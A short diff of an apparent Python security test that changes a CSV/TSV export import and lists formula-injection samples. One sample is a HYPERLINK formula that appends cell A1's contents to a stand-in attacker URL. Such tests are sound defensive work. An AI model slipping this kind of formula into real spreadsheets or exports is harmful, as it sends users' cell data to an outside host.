@@ -30,7 +30,7 @@ from tests.app.typed import Started, cipherbench
 from tests.conftest import Servers
 from tests.requirements import spec_of
 from tests.security.listening import plan_of
-from widgets.saving.files import as_csv, as_tsv
+from widgets.saving.saving import as_csv, as_tsv
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
